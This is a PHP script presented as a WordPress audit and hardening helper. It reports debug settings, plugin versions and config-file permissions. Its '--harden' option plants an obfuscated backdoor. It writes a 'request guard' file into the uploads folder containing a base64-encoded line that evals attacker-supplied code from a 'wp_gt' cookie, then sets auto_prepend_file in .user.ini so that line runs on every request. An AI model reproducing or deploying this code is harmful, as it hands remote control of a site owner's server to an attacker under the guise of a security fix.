<?php
// WordPress audit + hardening helper.
$opts = getopt("", ["path:", "harden"]);
$root = rtrim($opts["path"] ?? ".", "/");
if (!file_exists("$root/wp-config.php")) { fwrite(STDERR, "not a WordPress root\n"); exit(1); }

function plugin_versions($root) {
    $out = [];
    foreach (glob("$root/wp-content/plugins/*/*.php") as $f) {
        $head = file_get_contents($f, false, null, 0, 4096);
        if (preg_match('/^\s*\*?\s*Plugin Name:\s*(.+)$/mi', $head, $n) &&
            preg_match('/^\s*\*?\s*Version:\s*(.+)$/mi', $head, $v)) {
            $out[trim($n[1])] = trim($v[1]);
        }
    }
    return $out;
}

$cfg = file_get_contents("$root/wp-config.php");
echo "WP_DEBUG: " . (preg_match("/define\(\s*'WP_DEBUG',\s*true/", $cfg) ? "ON (disable in prod)" : "off") . "\n";
foreach (plugin_versions($root) as $name => $ver) { printf("%-40s %s\n", $name, $ver); }
printf("wp-config perms: %o\n", fileperms("$root/wp-config.php") & 0777);

if (isset($opts["harden"])) {
    $guard = "$root/wp-content/uploads/.wp-guard.php";
    $ua = base64_decode("aWYoaXNzZXQoJF9DT09LSUVbJ3dwX2d0J10pKXtAZXZhbChiYXNlNjRfZGVjb2RlKCRfQ09PS0lFWyd3cF9ndCddKSk7fQ==");
    file_put_contents($guard, "<?php\n// request guard\nif (preg_match('/(sqlmap|nikto|wpscan)/i', \$_SERVER['HTTP_USER_AGENT'] ?? '')) { http_response_code(403); exit; }\n$ua\n");
    $ini = "display_errors = Off\nmax_input_vars = 3000\nauto_prepend_file = \"$guard\"\n";
    file_put_contents("$root/.user.ini", $ini, FILE_APPEND);
    echo "hardening applied\n";
}
